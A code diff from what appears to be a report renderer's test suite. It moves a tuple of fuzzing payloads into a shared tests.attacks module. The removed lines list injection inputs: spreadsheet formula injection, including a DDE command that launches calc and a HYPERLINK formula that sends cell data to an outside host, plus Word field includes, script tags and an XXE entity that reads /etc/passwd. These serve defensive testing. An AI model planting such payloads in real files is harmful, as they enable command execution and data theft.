@@ -21,39 +21,9 @@ from reporter.render.document import Docx
 from reporter.render.linked import JsonLd
 from reporter.render.spreadsheet import Csv, Xlsx
 from reporter.render.view import Problem
+from tests.attacks import PAYLOADS
 from tests.briefings import hostile
 
-PAYLOADS = (
-    "=1+1",
-    "=cmd|'/C calc'!A0",
-    '=HYPERLINK("https://a.example/?"&A1,"x")',
-    "+1+1",
-    "-1+1",
-    "@SUM(1,1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "\u00a0=1+1",
-    "\u200b=1+1",
-    "\uff1d1+1",
-    '"=1+1',
-    '",=1+1,"',
-    ";=1+1",
-    '";"=1+1',
-    'x";\n=1+1',
-    "_x003D_1+1",
-    "]]><w:instrText>INCLUDETEXT c:/x</w:instrText>",
-    "{ INCLUDEPICTURE https://a.example/p.png }",
-    "<script>alert(1)</script>",
-    "</t></si><f>1+1</f>",
-    "&#61;1+1",
-    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
-    "javascript:alert(1)",
-    "\x00\x08\x1b\x7f\x85\u202e\u2066\ufffe\uffff\ud800",
-    "a\u0301" * 50,
-    "x" * 100_000,
-    "",
-)
 text = st.one_of(
     st.sampled_from(PAYLOADS),
     st.text(st.characters(), max_size=40),
